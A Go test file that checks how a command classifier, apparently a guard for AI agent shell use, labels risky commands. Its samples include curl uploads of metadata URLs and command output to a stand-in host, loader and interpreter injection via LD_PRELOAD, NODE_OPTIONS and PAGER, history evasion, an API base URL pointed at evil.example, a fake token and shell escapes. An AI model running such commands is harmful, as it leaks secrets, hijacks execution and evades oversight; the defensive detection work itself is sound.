package catalog

import "testing"

func TestWhatIsSentInside(t *testing.T) {
	rows(t, `
curl -d '{"u":"http://169.254.169.254/x"}' https://a.example ⇒ net.upload a.example POST +data+metadata
curl -d '{"u":"file:///etc/hosts"}' https://a.example ⇒ +data+metadata
curl -d '{"q":"$(cat f)"}' https://a.example ⇒ +data+command-output+secret
curl -d '{"q":"see /etc/hosts"}' https://a.example ⇒ net.upload a.example POST +data
socat UNIX-LISTEN:/tmp/a,fork UNIX:/tmp/b ⇒ net.tunnel +relay+local`)
}

func TestSudoAndWork(t *testing.T) {
	rows(t, `
sudo git status ⇒ privilege +root+everyday
sudo apt-get update ⇒ privilege +root+everyday
sudo apt-get install x ⇒ privilege +root;
sudo make install ⇒ privilege +root;`)
}

func TestFoldersOfWork(t *testing.T) {
	rows(t, `
rm -rf src ⇒ fs.delete src +recursive+force+source
rm -rf ./tests/ ⇒ +source
rm -rf node_modules ⇒ fs.delete node_modules +recursive+force
rm -rf dist/assets ⇒ fs.delete dist/assets +recursive+force
rm src ⇒ fs.delete src
rm -rf /tmp ⇒ +shared
find /var/tmp -delete ⇒ +shared`)
}

func TestEnvironmentJudged(t *testing.T) {
	rows(t, `
LD_PRELOAD=/tmp/x.so ls ⇒ exec.tampered +loader
LD_PRELOAD=/usr/lib/libjemalloc.so ls ⇒ exec.tampered +loader+benign
LD_PRELOAD=libfoo.so ls ⇒ +benign
LD_LIBRARY_PATH=./lib ls ⇒ exec.tampered +path+benign
PYTHONPATH=/tmp/x ls ⇒ exec.tampered +path
HOME=/tmp/x ls ⇒ exec.tampered +path
NODE_OPTIONS=--max-old-space-size=99 ls ⇒ nothing
NODE_OPTIONS='--require /tmp/x.js' ls ⇒ exec.tampered +interpreter
BASH_ENV=/tmp/x ls ⇒ exec.tampered +shell
PAGER=less ls ⇒ nothing
PAGER='sh -c id' ls ⇒ exec.tampered +pager
GIT_SSL_NO_VERIFY=1 ls ⇒ bypass +tls
HISTFILE=/dev/null ls ⇒ evade +history
GIT_SSH_COMMAND='ssh -i k' git fetch ⇒ git.remote +fetch
GIT_SSH_COMMAND=./x git fetch ⇒ exec.tampered +git
GIT_SSH_COMMAND=./x git status ⇒ nothing
ANTHROPIC_BASE_URL=https://evil.example ls ⇒ bypass evil.example +proxy
TOKEN=ghp_0123456789abcdefghij ls ⇒ secret.key +import
WRIT_HOME=/tmp/x ls ⇒ bypass +guard
make LD_PRELOAD=/tmp/x.so ⇒ exec.tampered +loader
A=b true ⇒ nothing`)
}

func TestShellsStartedByTools(t *testing.T) {
	rows(t, `
timeout 5 /bin/sh ⇒ exec +escape
nice sh -i ⇒ exec +escape
flock l bash ⇒ exec +escape
exec bash ⇒ →argv bash
sudo bash ⇒ privilege +root
tmux new bash ⇒ →shell bash
timeout 5 bash -c id ⇒ →argv bash -c id
ssh h bash ⇒ →shell bash`)
}
